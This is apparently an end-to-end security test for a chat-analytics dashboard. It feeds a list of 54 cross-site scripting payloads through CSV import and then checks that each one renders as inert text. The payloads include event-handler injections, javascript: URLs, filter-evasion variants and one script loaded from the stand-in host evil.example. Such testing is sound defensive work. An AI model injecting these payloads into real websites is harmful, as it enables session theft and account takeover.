// xss.mjs - hostile data through import, API and dashboard
// (tests/e2e/serve_browser.sh).
//   node xss.mjs data DIR   writes messages.csv and agents.csv with the
//                           payloads as agent names, teams, roster names,
//                           buyer nicks and chat text
//   node xss.mjs run        (env BASE, KUSER, KPASS) logs in and visits every
//                           view, every hostile agent, its day, its chats
//                           and every chat's messages, hovers the charts to
//                           open their tooltips, and checks that no script
//                           ran (no marker, no dialog), no element came out
//                           of the data, and every payload is shown as text.
// The page's CSP is bypassed for this run, so only escaping protects it.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload=alert(3)>',
  '"><script>alert(4)</script>',
  "'><img src=x onerror=alert(5)>",
  '<iframe src="javascript:alert(6)"></iframe>',
  '<body onload=alert(7)>',
  '<a href="javascript:alert(8)">click</a>',
  '<details open ontoggle=alert(9)>',
  '<video><source onerror="alert(10)"></video>',
  '<audio src=x onerror=alert(11)>',
  '<marquee onstart=alert(12)>',
  '<input autofocus onfocus=alert(13)>',
  '<select autofocus onfocus=alert(14)>',
  '<textarea autofocus onfocus=alert(15)>',
  '<math><mi xlink:href="javascript:alert(16)">x</mi></math>',
  '<object data="javascript:alert(17)">',
  '<embed src="javascript:alert(18)">',
  '<div style="background:url(javascript:alert(19))">',
  '<style>@import "javascript:alert(20)";</style>',
  '<link rel=stylesheet href="javascript:alert(21)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(22)">',
  '<base href="javascript:alert(23)//">',
  '<form action="javascript:alert(24)"><button>x</button></form>',
  '<isindex action=javascript:alert(25) type=image>',
  '<img src="x` `<script>alert(26)</script>"` `>',
  '<scr<script>ipt>alert(27)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img """><script>alert(29)</script>">',
  '<img src=x:alert(30) onerror=eval(src)>',
  '<svg><script>alert(31)</script></svg>',
  '<svg><animate onbegin=alert(32) attributeName=x dur=1s>',
  '<table background="javascript:alert(33)">',
  '<td background="javascript:alert(34)">',
  '<img dynsrc="javascript:alert(35)">',
  '<bgsound src="javascript:alert(36)">',
  '<br size="&{alert(37)}">',
  '<xss onpointerover=alert(38)>hover</xss>',
  '<img src=1 onerror=&#97;&#108;&#101;&#114;&#116;(39)>',
  '&lt;script&gt;alert(40)&lt;/script&gt;',
  '\u003cscript\u003ealert(41)\u003c/script\u003e',
  '</textarea><script>alert(42)</script>',
  '</title><script>alert(43)</script>',
  '--><script>alert(44)</script><!--',
  ']]><script>alert(45)</script>',
  '{{constructor.constructor("alert(46)")()}}',
  '${alert(47)}',
  'javascript:alert(48)',
  '<img src=x onerror=alert`49`>',
  '<svg/onload=window.__xss=50>',
  '"onmouseover="alert(51)"',
  '<a id=x tabindex=1 onfocusin=alert(52)></a>',
  '<keygen autofocus onfocus=alert(53)>',
  '买家<img src=x onerror=alert(54)>旺旺',
];

function csv(v) {
  return '"' + String(v).replace(/"/g, '""') + '"';
}

const AGENTS = 10, BUYERS = PAYLOADS.length - PAYLOADS.length % AGENTS; // 50
export function agentName(k) { return 'xss店:' + PAYLOADS[k]; }

function writeData(dir) {
  const shop = 'xss店';
  const msgs = ['shop,buyer,agent,dir,ts,text'];
  const roster = ['agent,vendor,team,name'];
  for (let k = 0; k < AGENTS; k++)
    roster.push([agentName(k), 'inhouse', PAYLOADS[(k + 10) % PAYLOADS.length], PAYLOADS[(k + 20) % PAYLOADS.length]].map(csv).join(','));
  for (let j = 0; j < BUYERS; j++) {
    const a = agentName(j % AGENTS);
    const mm = String(10 + (j % 40)).padStart(2, '0');
    msgs.push([shop, PAYLOADS[j], a, 'B', `2024-11-05 10:${mm}:00`, PAYLOADS[j]].map(csv).join(','));
    msgs.push([shop, PAYLOADS[j], a, 'A', `2024-11-05 10:${mm}:30`, PAYLOADS[(j + 1) % PAYLOADS.length]].map(csv).join(','));
  }
  // the payloads beyond the first 50 as text in one more chat
  for (let j = BUYERS; j < PAYLOADS.length; j++)
    msgs.push([shop, PAYLOADS[0], agentName(0), 'B', `2024-11-05 11:${String(j - BUYERS).padStart(2, '0')}:00`, PAYLOADS[j]].map(csv).join(','));
  writeFileSync(join(dir, 'xss_messages.csv'), msgs.join('\n') + '\n');
  writeFileSync(join(dir, 'xss_agents.csv'), roster.join('\n') + '\n');
}

async function run() {
  const { openBrowser, login, check, failed, viewReady, go } = await import('./browser.mjs');
  const { BASE, KUSER, KPASS } = process.env;
  const b = await openBrowser({ bypassCSP: true });
  const { page } = b;
  // markers: any payload that runs sets one of these or opens a dialog
  await page.addInitScript(() => { window.__xss = undefined; });
  const injected = () => page.evaluate(() => {
    const sel = 'img, svg, iframe, script:not([src]), object, embed, video, audio, marquee, details, math, style, link:not([rel]), meta[http-equiv], base, form:not(#login-form):not(#filters), textarea, keygen, xss, bgsound, table[background], td[background], [onerror], [onload], [onfocus], [onmouseover], [onpointerover], [ontoggle], [onbegin], [onstart], [onfocusin], a[href^="javascript"]';
    return { n: document.querySelectorAll(sel).length, what: [...document.querySelectorAll(sel)].slice(0, 3).map((e) => e.outerHTML.slice(0, 80)), marker: window.__xss };
  });
  const seen = new Set();
  const collect = async () => {
    const text = await page.evaluate(() => document.body.innerText + ' ' + [...document.querySelectorAll('button, td, option, .label, h3, #view-title')].map((e) => e.textContent).join('\n'));
    PAYLOADS.forEach((p, i) => { if (text.includes(p)) seen.add(i); });
  };
  let bad = 0;
  const assertClean = async (where) => {
    const r = await injected();
    if (r.n || r.marker !== undefined || b.dialogs.length) {
      bad++;
      console.log(`FAIL ${where}: ${r.n} injected elements ${JSON.stringify(r.what)}, marker ${r.marker}, dialogs ${JSON.stringify(b.dialogs)}`);
    }
    await collect();
  };
  const hover = async (id) => {
    const box = await page.locator('#' + id).boundingBox();
    if (!box) return '';
    let tips = '';
    for (let x = 0.1; x < 0.95; x += 0.08) {
      await page.mouse.move(box.x + box.width * x, box.y + box.height * 0.5);
      await page.waitForTimeout(30);
      tips += await page.evaluate((i) => [...document.querySelectorAll('#' + i + ' div')].map((d) => d.innerText).join(' '), id);
    }
    return tips;
  };
  try {
    await login(page, BASE, KUSER, KPASS);
    await viewReady(page, 'overview');
    await assertClean('overview');
    await go(page, '#/agents', 'agents');
    await page.waitForSelector('#chart-agents[data-rendered="1"]');
    const tips = await hover('chart-agents');
    await assertClean('agents chart tooltips');
    check(PAYLOADS.slice(0, AGENTS).some((p) => tips.includes(p)), 'agents chart tooltip shows a hostile agent name as text');
    const n = await page.$$eval('button.link[data-col="agent"]', (e) => e.length);
    let chats = 0;
    for (let k = 0; k < n; k++) {
      await go(page, '#/agents', 'agents');
      const btn = (await page.$$('button.link[data-col="agent"]'))[k];
      const name = await btn.textContent();
      if (!name.startsWith('xss店:')) continue;
      await page.evaluate(() => document.body.removeAttribute('data-view-ready'));
      await btn.click();
      await viewReady(page, 'agent');
      await assertClean('agent ' + k);
      const days = await page.$$('button.link[data-col="consults"]');
      let day = null;
      for (const d of days) if (Number(await d.textContent()) > 0) { day = d; break; }
      if (!day) continue;
      await page.evaluate(() => document.body.removeAttribute('data-view-ready'));
      await day.click();
      await viewReady(page, 'agent');
      await page.waitForSelector('button.link[data-col="buyer"]');
      await assertClean('chats of agent ' + k);
      const buyers = await page.$$('button.link[data-col="buyer"]');
      for (const bb of buyers) {
        await page.evaluate(() => { const m = document.getElementById('messages'); if (m) m.textContent = ''; });
        await bb.click();
        await page.waitForSelector('#messages table tr');
        chats++;
        await assertClean('messages');
      }
    }
    check(chats >= 50, `opened ${chats} hostile chats`);
    for (const [h, v] of [['#/trends', 'trends'], ['#/hourly', 'hourly'], ['#/settings', 'settings'], ['#/users', 'users']]) {
      await go(page, h, v);
      await assertClean(v);
    }
    await go(page, '#/hourly', 'hourly');
    await hover('chart-hourly');
    await assertClean('hourly tooltips');
    check(bad === 0, 'no payload ran or became an element');
    const marker = await page.evaluate(() => window.__xss);
    check(marker === undefined && b.dialogs.length === 0, `0 scripts ran (marker ${marker}, ${b.dialogs.length} dialogs)`);
    check(seen.size === PAYLOADS.length, `${seen.size} of ${PAYLOADS.length} payloads shown as text` + (seen.size < PAYLOADS.length ? ': missing ' + PAYLOADS.filter((_, i) => !seen.has(i)).join(' | ') : ''));
    check(b.problems.filter((p) => !/favicon/.test(p)).length === 0, 'no page errors' + (b.problems.length ? ': ' + b.problems.join(' | ') : ''));
  } catch (e) {
    check(false, 'exception: ' + e.stack);
  } finally {
    await b.close();
  }
  process.exit(failed() ? 1 : 0);
}

if (process.argv[2] === 'data') writeData(process.argv[3]);
else if (process.argv[2] === 'run') await run();
